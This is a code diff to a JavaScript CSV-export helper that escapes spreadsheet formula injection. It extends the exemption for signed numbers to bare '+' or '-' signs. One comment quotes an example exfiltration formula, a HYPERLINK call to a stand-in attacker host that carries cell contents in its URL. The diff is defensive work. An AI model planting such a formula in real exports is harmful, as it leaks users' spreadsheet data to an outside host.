@@ -41,10 +41,10 @@
   // The result table's "download" is a CSV made here: YASR's own wrote each value as it was, and
   // Excel evaluates a cell opening with = + - @ (a document's text, or a shared link's VALUES,
   // '=HYPERLINK("http://attacker/?d="&A3,"…")' a live link).  Such a cell opens with an apostrophe
-  // unless it is a signed number, as the server's CSV exports do (queries._csv_text), and the
-  // file opens with a byte-order mark so that Excel reads Vietnamese.
+  // unless it is a signed number or a sign alone, as the server's CSV exports do
+  // (queries._csv_text), and the file opens with a byte-order mark so that Excel reads Vietnamese.
   const FORMULA_OPENER = /^[=+\-@\t\r\0]/;
-  const SIGNED_NUMBER = /^[+-]\d+(?:[.,]\d+)*%?$/;
+  const SIGNED_NUMBER = /^[+-](?:\d+(?:[.,]\d+)*%?)?$/;
   function csvCell(value) {
     let text = String(value);
     if (FORMULA_OPENER.test(text) && !SIGNED_NUMBER.test(text)) text = "'" + text;
